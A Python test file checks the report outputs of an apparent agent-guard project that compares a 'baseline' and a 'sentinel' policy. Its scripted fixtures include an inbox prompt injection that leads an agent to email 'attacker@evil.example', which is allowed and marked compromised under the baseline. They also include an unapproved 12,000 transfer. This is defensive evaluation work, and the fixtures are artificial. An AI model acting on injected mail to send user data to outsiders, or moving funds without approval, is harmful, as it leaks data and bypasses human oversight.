"""The run's outputs: JSON for machines, a self-contained HTML report, the SVG chart, the terminal table."""

from __future__ import annotations

import json
import re
import xml.etree.ElementTree as ET
from pathlib import Path

from rich.console import Console

from sentinel_agent.agents import CallRecord
from sentinel_agent.experiments import SCENARIOS, RunReport, ScenarioResult, resolve_policy
from sentinel_agent.experiments._chart import render_chart
from sentinel_agent.experiments._report import render_html, write_outputs
from sentinel_agent.experiments._terminal import print_results


def sample_report() -> RunReport:
    scenarios = [s for s in SCENARIOS if s.id in ("team-announcement", "inbox-injection", "large-transfer")]
    policies = [resolve_policy("baseline"), resolve_policy("sentinel")]
    report = RunReport(agent="scripted", policies=policies, scenarios=scenarios, started_at="2026-11-22T00:00:00+00:00")
    from sentinel_agent.experiments._scenario import Verdict

    def add(scenario: str, policy: str, verdict: Verdict, calls: list[CallRecord]) -> None:
        report.results.append(ScenarioResult(scenario, policy, verdict, calls))

    mail = CallRecord("send_email", {"to": "team@northwind.example"}, "allow", "mail", "ok", "user", jti="j1", executed=True)
    add("team-announcement", "baseline", Verdict(True, True, None, "completed"), [mail])
    add("team-announcement", "sentinel", Verdict(True, True, None, "completed"), [mail])
    inbox = CallRecord("read_inbox", {}, "allow", "staticRules.read_inbox", "ok", "user", jti="j2", executed=True)
    leak = CallRecord("send_email", {"to": "attacker@evil.example"}, "deny", "external-mail-after-untrusted", "no", "injection")
    add("inbox-injection", "baseline", Verdict(False, True, True, "compromised"), [inbox, CallRecord("send_email", {}, "allow", executed=True)])
    add("inbox-injection", "sentinel", Verdict(True, True, False, "stopped, task done"), [inbox, leak])
    held = CallRecord("transfer_funds", {"amount": 12000}, "approval", "large-transfers", "big", "user", approval_id="a1")
    add("large-transfer", "baseline", Verdict(False, False, True, "ran unapproved"), [CallRecord("transfer_funds", {}, "allow", executed=True)])
    add("large-transfer", "sentinel", Verdict(True, True, False, "held"), [held])
    return report


def test_json_summarises_each_policy_and_keeps_every_trace(tmp_path: Path) -> None:
    paths = write_outputs(sample_report(), tmp_path)
    data = json.loads(paths["json"].read_text())
    assert data["format"] == "sentinel-experiments/1" and data["passed"] is True
    summary = {row["policy"]: row for row in data["summary"]}
    expected = {"attacks": 1, "attacks_stopped": 1, "approvals": 1, "approvals_held": 1,
                "tasks": 2, "tasks_completed": 2, "blocked": 1, "held": 1}
    assert {key: summary["sentinel"][key] for key in expected} == expected
    assert summary["baseline"]["attacks_stopped"] == 0
    result = next(r for r in data["results"] if r["scenario"] == "inbox-injection" and r["policy"] == "sentinel")
    assert result["stopping_rules"] == ["external-mail-after-untrusted"]
    assert result["trace"][1]["source"] == "injection"


def test_a_failure_under_an_enforced_policy_fails_the_run_but_not_under_a_reference_one() -> None:
    from sentinel_agent.experiments._scenario import Verdict

    report = sample_report()
    report.results[1].verdict = Verdict(False, False, None, "task failed")  # team-announcement under sentinel
    assert [(r.scenario, r.policy) for r in report.failures()] == [("team-announcement", "sentinel")]
    assert all(r.policy != "baseline" for r in report.failures())


def test_html_report_is_self_contained() -> None:
    html = render_html(sample_report())
    assert html.startswith("<!DOCTYPE html>") and "<svg" in html and "<style>" in html
    for external in ("<script", "src=", "<link", "@import", "url("):
        assert external not in html
    assert not re.search(r"href=\"https?:", html)


def test_chart_is_valid_svg_with_a_bar_per_scenario_and_policy_that_made_calls() -> None:
    svg = render_chart(sample_report())
    root = ET.fromstring(svg)
    titles = [el.text for el in root.iter("{http://www.w3.org/2000/svg}title")]
    assert len(titles) == 7  # one segment per non-empty (policy, decision) count
    assert "sentinel: 1 held" in titles and "sentinel: 1 blocked" in titles


def test_terminal_table_names_every_scenario_and_the_summary() -> None:
    console = Console(record=True, width=200)
    print_results(sample_report(), console)
    text = console.export_text()
    for scenario in ("team-announcement", "inbox-injection", "large-transfer"):
        assert scenario in text
    assert "external-mail-after-untrusted" in text
    assert "Every attack stopped and every task completed under sentinel." in text
